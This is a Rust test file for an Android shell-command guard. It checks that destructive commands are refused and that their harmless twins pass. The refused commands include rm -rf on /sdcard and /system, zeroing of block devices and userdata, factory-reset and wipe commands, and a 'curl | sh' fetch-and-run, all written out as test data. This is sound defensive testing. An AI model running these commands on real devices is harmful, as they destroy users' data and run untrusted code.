//! The guard's abstract shell, feature by feature: what variables, positional parameters,
//! the working directory and aliases can hold across branches, loops, subshells, functions,
//! `unset`, `set --`, `shift`, `read`, `IFS`, `cd -`, `cd -P` and `CDPATH`; places reached
//! through aliases, globs, links and moves; and the "cannot tell" refusals that name what
//! could not be read. Each catastrophic line has an ordinary twin that must still pass.
use spock_core::guard;

fn refused(cmd: &str) -> guard::Refusal {
    guard::catastrophic(cmd).unwrap_or_else(|| panic!("not refused: {cmd}"))
}

fn passes(cmd: &str) {
    if let Some(r) = guard::catastrophic(cmd) {
        panic!("wrongly refused: {cmd}\n{r}");
    }
}

#[test]
fn branches_join_their_values() {
    refused("if [ -d /x ]; then D=/data/local/tmp/x; else D=/sdcard; fi; rm -rf $D");
    passes("if [ -d /x ]; then D=/data/local/tmp/x; else D=/data/local/tmp/y; fi; rm -rf $D");
    refused("case $1 in a) D=/system;; *) D=/data/local/tmp/a;; esac; rm -rf \"$D\"");
    refused("test -e /x && D=/sdcard; rm -rf ${D:-/data/local/tmp/x}");
    passes("test -e /x || exit; rm -rf /data/local/tmp/x");
}

#[test]
fn loops_reach_a_fixed_point() {
    refused("D=/sdcard/Download/a/b; while true; do rm -rf $D; D=$(dirname $D); done");
    refused("for d in /data/local/tmp /system; do rm -rf $d; done");
    passes("for d in /data/local/tmp/a /data/local/tmp/b; do rm -rf $d; done");
    refused("X=/data/local/tmp/x; for i in 1 2 3; do X=${X%/*}; done; rm -rf $X");
    refused("echo /sdcard | while read d; do rm -rf \"$d\"; done");
    passes("ls /sdcard/Download | while read f; do echo \"$f\"; done");
}

#[test]
fn positional_parameters_set_shift_and_functions() {
    refused("set -- /data/local/tmp/a /sdcard; shift; rm -rf \"$1\"");
    passes("set -- /sdcard /data/local/tmp/a; shift; rm -rf \"$1\"");
    refused("f() { rm -rf \"$1\"; }; f /system");
    passes("f() { rm -rf \"$1\"; }; f /data/local/tmp/build");
    refused("f() { rm -rf \"$@\"; }; f /data/local/tmp/a /vendor");
    refused("set -- $(cat /sdcard/list); rm -rf \"$1\"");
    refused("sh -c 'rm -rf \"$1\"' sh /data/media/0");
}

#[test]
fn unset_read_and_ifs_are_unknown_not_empty() {
    let r = refused("X=/sdcard/Download/x; unset X; rm -rf /sdcard/$X");
    assert!(!r.why.is_empty());
    let r = refused("unset D; rm -rf \"$D\"");
    assert_eq!(r.rule, "cannot-tell");
    assert!(
        r.why.contains("cannot tell what `$D` holds after `unset`"),
        "{r}"
    );
    let r = refused("read D; rm -rf \"/$D\"");
    assert!(r.why.contains("`$D` holds after `read`"), "{r}");
    refused("read D <<< /sdcard; rm -rf \"$D\"");
    passes("read D <<< /data/local/tmp/x; rm -rf \"$D\"");
    refused("IFS=/; X=a/sdcard; set -- $X; rm -rf /$2");
    refused("IFS=x; X=rmx-rfx/system; $X");
}

#[test]
fn the_working_directory_is_followed() {
    refused("cd /sdcard; cd /data/local/tmp; cd -; rm -rf *");
    passes("cd /sdcard; cd /data/local/tmp; rm -rf *");
    refused("CDPATH=/:/data/local/tmp; cd system && rm -rf ./*");
    refused("ln -s /sdcard /data/local/tmp/l; cd -P /data/local/tmp/l && rm -rf ./*");
    refused("cd /data/local/tmp; for i in 1 2 3 4 5 6; do cd ..; done; rm -rf sdcard");
    passes("cd /data/local/tmp && rm -rf build");
    refused("cd $(cat /sdcard/dir) && rm -rf *");
}

#[test]
fn subshells_do_not_leak_but_the_filesystem_does() {
    passes("D=/data/local/tmp/x; (D=/sdcard); rm -rf $D");
    refused("(ln -s /system /data/local/tmp/s); rm -rf /data/local/tmp/s/");
    refused("mv /sdcard/DCIM /data/local/tmp/d");
    refused("mount --bind /sdcard /data/local/tmp/m; rm -rf /data/local/tmp/m/*");
    refused("mknod /data/local/tmp/b b 179 0; dd if=/dev/zero of=/data/local/tmp/b");
    refused(
        "ln -s /dev/block/by-name/userdata /data/local/tmp/u; cat /dev/zero > /data/local/tmp/u",
    );
}

#[test]
fn aliases_of_protected_places_and_globs() {
    for p in [
        "/proc/self/root/sdcard",
        "/proc/1/root/system",
        "/mnt/user/0/emulated/0",
        "/mnt/pass_through/0/emulated/0/DCIM",
        "/storage/self/primary",
        "/mnt/sdcard/Pictures",
        "/data/media/0",
        "/s*",
        "/sd?ard",
        "/[s]ystem",
        "/storage/emulated/0/D*",
        "/data/data/com.*",
        "/proc/self/cwd/x",
    ] {
        refused(&format!("rm -rf {p}"));
    }
    passes("rm -rf /sdcard/Download/*.apk");
    passes("rm -rf /data/local/tmp/*");
    passes("rm -rf /sdcard/Android/data/com.example/cache/*");
}

#[test]
fn runners_are_followed() {
    refused("find /sdcard -type f -exec rm {} +");
    passes("find /sdcard/Download -name '*.tmp' -exec rm {} \\;");
    passes("find /sdcard/DCIM -name '*.tmp' -exec rm {} \\;");
    refused("find /sdcard/DCIM -exec rm -f {} +");
    refused("find /sdcard -type f | xargs rm -f");
    passes("find /data/local/tmp -name '*.so' | xargs rm -f");
    passes("find /sdcard/Download -name '*.tmp' | xargs rm -f");
    refused("echo /system | xargs -I % sh -c 'rm -rf %'");
    refused("env -S 'rm -rf /vendor'");
    refused("awk 'BEGIN { system(\"rm -rf /sdcard\") }'");
    refused("trap 'rm -rf /sdcard' EXIT");
    refused("command exec nice -n 5 timeout 9 rm -rf /product");
    refused("curl -s http://x/y | sh");
    passes("sh -c 'echo hello'");
    passes("echo 'ls' | sh");
}

#[test]
fn android_wipes() {
    for c in [
        "vdc cryptfs wipe",
        "cmd testharness enable",
        "sm format public:179,64",
        "sm partition disk:179,64 private",
        "am broadcast -a android.intent.action.FACTORY_RESET -p android",
        "am start -n com.android.settings/.Settings\\$FactoryResetActivity",
        "fastboot -w",
        "recovery --wipe_data",
        "echo --wipe_data > /cache/recovery/command",
        "A=$(cat /sdcard/a); am broadcast -a \"$A\"",
    ] {
        refused(c);
    }
    passes("pm clear com.example.app");
    passes("settings put secure x 1");
    passes("am broadcast -a com.example.REFRESH");
}
